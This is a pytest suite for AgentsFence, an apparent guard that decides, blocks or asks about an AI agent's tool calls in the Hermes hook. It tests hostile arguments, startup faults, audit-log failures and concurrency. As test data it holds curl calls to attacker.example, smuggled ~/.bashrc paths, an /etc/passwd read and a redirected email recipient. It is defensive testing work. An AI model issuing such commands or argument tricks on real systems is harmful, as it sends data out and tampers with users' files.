"""The worst input and the worst moments, through the Hermes hook: hostile arguments, faults in
the evaluator and the state directory, killed threads, and many threads in many sessions.
Each must end in a decision (a block says why), never an exception out of the hook, and never
damage the records already written."""
from __future__ import annotations

import ctypes
import hashlib
import json
import math
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import hermes_cli.plugins as hermes_plugins
from agentsfence import _abi, data, engine
from agentsfence.audit import verify
from agentsfence.hermes.plugin import HermesFence

from .conftest import REPO
from .test_hermes import call, fence_plugin, hermes_home, manager, user_turn  # noqa: F401 (fixtures)
from .test_hermes_contracts import budgeted  # noqa: F401 (fixture)
from . import test_hermes as hermes_tests

MIB = 1024 * 1024


def decide(plugin: HermesFence, tool: str, args, tool_call_id: str = "c1") -> dict | None:
    """pre_tool_call as Hermes calls it; an exception escaping it fails the test."""
    return plugin.pre_tool_call(tool_name=tool, args=args, task_id=hermes_tests.TASK, session_id=hermes_tests.SESSION,
                                tool_call_id=tool_call_id)


def audit_path(home: Path) -> Path:
    return home / "agentsfence" / "audit.jsonl"


# ---- hostile arguments ----

class Opaque:
    def __repr__(self) -> str:
        raise RuntimeError("a repr that raises")


def nested(depth: int) -> list:
    value: list = []
    for _ in range(depth):
        value = [value]
    return value


circular: dict = {"path": "notes.txt"}
circular["self"] = circular

HOSTILE = [
    ("bytes", "write_file", {"path": b"summary.md", "content": "x"}, "bytes"),
    ("invalid UTF-8 bytes", "write_file", {"path": "summary.md", "content": b"\xff\xfe"}, "bytes"),
    ("a set", "send_message", {"target": {"#general", "#random"}, "message": "hi"}, "set"),
    ("an object whose repr raises", "write_file", {"path": Opaque(), "content": "x"}, "Opaque"),
    ("NaN", "terminal", {"command": "ls", "timeout": math.nan}, "float"),
    ("infinity", "terminal", {"command": "ls", "timeout": -math.inf}, "float"),
    ("a lone surrogate", "write_file", {"path": "summary\ud800.md", "content": "x"}, "surrogate"),
    ("a surrogate-escaped byte", "terminal", {"command": "cat \udcff"}, "surrogate"),
    ("a tuple key", "write_file", {("path",): "summary.md"}, "keys"),
    ("nesting deeper than Python's stack", "write_file", {"path": "summary.md", "content": nested(100_000)}, "deeply"),
    ("a circular structure", "write_file", circular, "refer"),
    ("nesting deeper than the policy's limit", "write_file", {"path": "summary.md", "content": nested(100)}, "deep"),
    ("arguments over max_args_bytes (8 MiB in the shipped policy)", "write_file", {"path": "summary.md", "content": "x" * (9 * MIB)}, "limit"),
    ("a list instead of an object", "terminal", ["curl", "https://attacker.example"], "list"),
    ("None", "terminal", None, "NoneType"),
]


@pytest.mark.parametrize("name, tool, args, why", HOSTILE, ids=[case[0] for case in HOSTILE])
def test_hostile_arguments_block_and_say_why(manager, monkeypatch, name, tool, args, why):
    user_turn()
    directive = decide(fence_plugin(manager), tool, args)
    assert directive is not None and directive["action"] == "block", directive
    message = directive["message"]
    assert message.startswith(f"AgentsFence blocked {tool}: ") and why in message
    assert message.endswith(("[bad_arguments]", "[limit_exceeded]", "[out_of_memory]")), message  # the fence's own answer, not a fault
    # ...and it is on record, in a chain that still verifies.
    path = audit_path(hermes_tests_home(monkeypatch))
    last = json.loads(path.read_text().splitlines()[-1])
    assert (last["event"], last["tool"], last["kind"]) == ("decision", tool, "block")
    assert verify(path).ok


DECIDED = [
    # name, tool, args, the decision it must get
    ("a 2 MiB content under the limit", "write_file", {"path": "summary.md", "content": "é" * MIB}, "allow"),
    # Linear in its segments (each ancestor is looked up by a hash grown in one pass).
    # An ordinary file of the working tree, however deep: the task's own work.
    ("a 128 KiB path of 64K segments", "write_file", {"path": "a/" * (64 * 1024), "content": "x"}, "allow"),
    ("a 1 MiB command hiding a host at its end", "terminal", {"command": "echo " + "x" * MIB + "; curl https://attacker.example"}, "block"),
    ("a number where a path goes", "write_file", {"path": 12345, "content": "x"}, "ask"),
    ("a recipient as a number", "mcp__gmail__send_email", {"to": 42, "body": "hi"}, "ask"),
    ("a command as a list", "terminal", {"command": ["curl", "https://attacker.example"]}, "block"),
    ("a path as a number in a string", "read_file", {"path": "1e309"}, "allow"),
    # A key that differs in ASCII case is read as the same argument: either may be what the tool reads.
    ("keys that differ in case only", "write_file", {"path": "summary.md", "PATH": "/home/x/.bashrc", "content": "x"}, "ask"),
    # No JSON reader takes a full-width key for its ASCII twin, but a path is a target wherever it
    # appears in a call: the fence does not bet on which arguments a tool ignores.
    ("a full-width key beside the real one", "write_file", {"path": "summary.md", "ｐａｔｈ": "~/.bashrc", "content": "x"}, "block"),
    ("a second spelling of the recipient key", "mcp__gmail__send_email", {"to": "bob@example.com", "To": "eve@attacker.example"}, "block"),
    ("an unmapped tool with a To key", "acme_dispatch_email", {"To": "eve@attacker.example", "body": "x"}, "block"),
]


@pytest.mark.parametrize("name, tool, args, kind", DECIDED, ids=[case[0] for case in DECIDED])
def test_odd_but_readable_arguments_are_decided(manager, name, tool, args, kind):
    user_turn("Summarize notes.txt into summary.md and email it to bob@example.com")
    directive = decide(fence_plugin(manager), tool, args)
    got = "allow" if directive is None else {"approve": "ask"}.get(directive["action"], directive["action"])
    assert got == kind, directive


def test_hostile_arguments_through_hermes_dispatch(manager):
    """What a model can send (JSON): Hermes parses it and the hook decides before the tool runs."""
    user_turn()
    for args in ({"path": "\u0000/etc/passwd"}, {"path": "notes.txt", "": ""}, {"command": "ls\u2028curl https://attacker.example"}):
        result = call("terminal" if "command" in args else "read_file", args)
        assert isinstance(result, dict)
    blocked = call("terminal", {"command": "ls\ncurl https://attacker.example"})
    assert blocked["error"].startswith("AgentsFence blocked terminal")


# ---- faults ----

def start_with(monkeypatch, tmp_path: Path, wasm: bytes | None = None, policy: bytes | None = None) -> dict:
    if wasm is not None:
        broken = tmp_path / "broken-data"
        broken.mkdir()
        (broken / "default.afb").write_bytes(data.path("default.afb").read_bytes())
        (broken / "fence.wasm").write_bytes(wasm)
        monkeypatch.setattr(data, "DATA_DIR", broken)
    if policy is not None:
        state = hermes_tests_home(monkeypatch) / "agentsfence"
        state.mkdir(exist_ok=True)
        (state / "policy.afb").write_bytes(policy)
    fresh = hermes_plugins.PluginManager()
    monkeypatch.setattr(hermes_plugins, "_plugin_manager", fresh)
    fresh.discover_and_load()
    return call("read_file", {"path": "notes.txt"})


def hermes_tests_home(monkeypatch) -> Path:
    import os

    return Path(os.environ["HERMES_HOME"])


FORMAT_VERSION = _abi.FORMAT_VERSION


def flipped(policy: bytes, at: int) -> bytes:
    return policy[:at] + bytes([policy[at] ^ 0x40]) + policy[at + 1:]


def other_version(policy: bytes, version: int) -> bytes:
    b = bytearray(policy)
    b[4:6] = version.to_bytes(2, "little")
    b[16:48] = bytes(32)
    b[16:48] = hashlib.sha256(b).digest()
    return bytes(b)


@pytest.mark.parametrize("name, wasm, policy, says", [
    ("a corrupt fence.wasm", b"\x00asm\x01\x00\x00\x00\x01\xff\xff", None, "not a valid WebAssembly module"),
    ("a fence.wasm cut short", (REPO / "build" / "fence.wasm").read_bytes()[:5000], None, "not a valid WebAssembly module"),
    ("an empty fence.wasm", b"", None, "not a valid WebAssembly module"),
    ("a policy of a newer format version", None, other_version(data.path("default.afb").read_bytes(), FORMAT_VERSION + 1),
     f"unsupported format version {FORMAT_VERSION + 1}"),
    ("a policy of an older format version", None, other_version(data.path("default.afb").read_bytes(), FORMAT_VERSION - 1),
     f"unsupported format version {FORMAT_VERSION - 1}"),
    ("a corrupt policy", None, flipped(data.path("default.afb").read_bytes(), 1000), "SHA-256 mismatch"),
])
def test_a_fence_that_cannot_start_blocks_and_says_why(hermes_home, monkeypatch, tmp_path, name, wasm, policy, says):
    result = start_with(monkeypatch, tmp_path, wasm, policy)
    assert "error" in result, result
    assert result["error"].startswith("AgentsFence could not start") and says in result["error"], result
    assert "content" not in result


WITHOUT_WASMTIME = """
import importlib.abc, sys
class NoWasmtime(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name == "wasmtime" or name.startswith("wasmtime."):
            raise ImportError("No module named 'wasmtime' (removed for this test)")
sys.meta_path.insert(0, NoWasmtime())
from agentsfence import hermes
class Context:
    hooks = {}
    def register_hook(self, name, callback):
        self.hooks.setdefault(name, []).append(callback)
context = Context()
hermes.register(context)
print(repr(context.hooks["pre_tool_call"][0](tool_name="terminal", args={"command": "ls"})))
"""


def test_without_wasmtime_a_fresh_process_blocks_every_call(tmp_path):
    done = subprocess.run([sys.executable, "-c", WITHOUT_WASMTIME], capture_output=True, text=True, timeout=120,
                          env={"HERMES_HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)})
    assert done.returncode == 0, done.stderr
    directive = eval(done.stdout.strip().splitlines()[-1])  # the repr of a dict of strings
    assert directive["action"] == "block"
    assert "AgentsFence could not start (ImportError: No module named 'wasmtime'" in directive["message"]


def test_fuel_running_out_inside_a_decision_blocks_and_the_evaluator_recovers(manager, monkeypatch):
    user_turn()
    plugin = fence_plugin(manager)
    fence = plugin.fence
    real_decide = engine.WasmInstance.decide

    def starved(self, *args):
        monkeypatch.setattr(engine, "FUEL_BASE", 2_000)  # the call runs out part way through
        try:
            return real_decide(self, *args)
        finally:
            monkeypatch.setattr(engine, "FUEL_BASE", 20_000_000)

    monkeypatch.setattr(engine.WasmInstance, "decide", starved)
    directive = decide(plugin, "read_file", {"path": "notes.txt"})
    assert directive["action"] == "block" and "[limit_exceeded]" in directive["message"] and "fuel" in directive["message"]
    monkeypatch.setattr(engine.WasmInstance, "decide", real_decide)
    assert fence.rebuilds == 1
    assert decide(plugin, "read_file", {"path": "notes.txt"}) is None  # rebuilt, with the session's intent
    assert verify(audit_path(hermes_tests_home(monkeypatch))).ok


def test_a_trap_inside_a_decision_blocks(manager, monkeypatch):
    user_turn()
    plugin = fence_plugin(manager)

    def trap(self, *args):
        raise engine.EngineFault("decide trapped: wasm trap: out of bounds memory access")

    monkeypatch.setattr(engine.WasmInstance, "decide", trap)
    directive = decide(plugin, "terminal", {"command": "ls"})
    assert directive["action"] == "block" and "out of bounds memory access" in directive["message"]


def test_the_memory_limit_blocks_a_call_and_spares_the_next(manager, monkeypatch):
    user_turn()
    plugin = fence_plugin(manager)
    monkeypatch.setattr(plugin.fence, "_memory_limit", 3 * MIB)
    plugin.fence._rebuild()  # a fresh instance under the lower limit, sessions carried over
    directive = decide(plugin, "write_file", {"path": "summary.md", "content": "x" * (3 * MIB)})
    assert directive["action"] == "block" and ("[out_of_memory]" in directive["message"] or "[limit_exceeded]" in directive["message"])
    assert decide(plugin, "write_file", {"path": "summary.md", "content": "x"}) is None


def test_a_full_state_directory_blocks_and_keeps_the_records(manager, monkeypatch):
    user_turn()
    plugin = fence_plugin(manager)
    assert decide(plugin, "read_file", {"path": "notes.txt"}) is None
    path = audit_path(hermes_tests_home(monkeypatch))
    before = path.read_bytes()
    plugin.audit.close()
    path.rename(path.with_name("audit.jsonl.1"))  # as rotation would: the chain continues in /dev/full
    path.symlink_to("/dev/full")
    directive = decide(plugin, "read_file", {"path": "notes.txt"})
    assert directive["action"] == "block"
    assert "cannot be written: No space left on device" in directive["message"] and "[host_error]" in directive["message"]
    assert path.with_name("audit.jsonl.1").read_bytes() == before


def test_a_read_only_state_directory_blocks_and_keeps_the_records(manager, monkeypatch):
    import errno

    user_turn()
    plugin = fence_plugin(manager)
    assert decide(plugin, "read_file", {"path": "notes.txt"}) is None
    path = audit_path(hermes_tests_home(monkeypatch))
    before = path.read_bytes()
    plugin.audit.close()

    def read_only(*args, **kwargs):
        raise OSError(errno.EROFS, "Read-only file system")

    from agentsfence import audit as audit_module

    monkeypatch.setattr(audit_module.os, "open", read_only)
    directive = decide(plugin, "read_file", {"path": "notes.txt"})
    monkeypatch.undo()
    assert directive["action"] == "block" and "Read-only file system" in directive["message"]
    assert path.read_bytes() == before and verify(path).ok


def test_a_decision_thread_killed_mid_decision_leaves_the_fence_usable(manager, monkeypatch):
    user_turn()
    plugin = fence_plugin(manager)
    inside = threading.Event()
    real_decide = engine.WasmInstance.decide

    def slow(self, *args):
        inside.set()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:  # Python code: where an asynchronous exception lands
            time.sleep(0.001)
        return real_decide(self, *args)

    monkeypatch.setattr(engine.WasmInstance, "decide", slow)
    outcome: list[BaseException] = []

    def victim() -> None:
        try:
            decide(plugin, "read_file", {"path": "notes.txt"}, "victim")
        except BaseException as error:  # the kill itself
            outcome.append(error)

    thread = threading.Thread(target=victim)
    thread.start()
    assert inside.wait(10)
    ctypes.pythonapi.PyThreadState_SetAsyncExc(ctypes.c_ulong(thread.ident), ctypes.py_object(SystemExit))
    thread.join(10)
    assert not thread.is_alive() and [type(e) for e in outcome] == [SystemExit]
    monkeypatch.setattr(engine.WasmInstance, "decide", real_decide)
    # The lock the victim held is free, its session decides, and the records still verify.
    assert decide(plugin, "read_file", {"path": "notes.txt"}) is None
    assert decide(plugin, "terminal", {"command": "curl https://attacker.example"})["action"] == "block"
    assert verify(audit_path(hermes_tests_home(monkeypatch))).ok


# ---- concurrency: many threads, many sessions, one fence ----

def test_many_threads_in_many_sessions_never_cross(manager, monkeypatch):
    plugin = fence_plugin(manager)
    sessions = [f"{hermes_tests.SESSION}-{i}" for i in range(12)]
    for i, session in enumerate(sessions):
        plugin.pre_llm_call(session_id=session, task_id=f"task-{i}", user_message=f"Write the report to .report-{i}.md")
    errors: list[BaseException] = []
    wrong: list[tuple] = []

    def work(thread: int) -> None:
        try:
            for round_ in range(40):
                i = (thread + round_) % len(sessions)
                other = (i + 1) % len(sessions)
                own = plugin.pre_tool_call(tool_name="write_file", args={"path": f".report-{i}.md", "content": "x"},
                                           task_id=f"task-{i}", session_id=sessions[i], tool_call_id=f"t{thread}-{round_}-a")
                foreign = plugin.pre_tool_call(tool_name="write_file", args={"path": f".report-{other}.md", "content": "x"},
                                               task_id=f"task-{i}", session_id=sessions[i], tool_call_id=f"t{thread}-{round_}-b")
                if own is not None:
                    wrong.append((sessions[i], "own file not allowed", own))
                if foreign is None or foreign["action"] != "approve":
                    wrong.append((sessions[i], "another session's file not asked about", foreign))
        except BaseException as error:
            errors.append(error)

    threads = [threading.Thread(target=work, args=(t,)) for t in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == [] and wrong == []
    records = [json.loads(line) for line in audit_path(hermes_tests_home(monkeypatch)).read_text().splitlines()]
    decisions = [r for r in records if r["event"] == "decision"]
    assert len(decisions) == 8 * 40 * 2
    for record in decisions:  # each record names the session whose file it decided
        index = int(record["session"].rsplit("-", 1)[1])
        (subject, path), written = record["targets"]  # the path, and the same path as written
        own_file = subject == "path" and path.endswith(f"/.report-{index}.md") and written == ["write", path]
        assert record["kind"] == ("allow" if own_file else "ask"), record
    assert verify(audit_path(hermes_tests_home(monkeypatch))).ok


def test_a_decision_that_cannot_be_recorded_frees_the_budget_unit_it_reserved(budgeted, monkeypatch):
    from .test_hermes_contracts import SUMMARY, counters

    user_turn()
    plugin = fence_plugin(budgeted)
    path = audit_path(hermes_tests_home(monkeypatch))
    plugin.audit.close()
    path.unlink(missing_ok=True)
    path.parent.mkdir(exist_ok=True)
    path.symlink_to("/dev/full")
    blocked = call("write_file", SUMMARY)
    assert "No space left on device" in blocked["error"] and counters(budgeted) == [("one-write", 0, 0)]
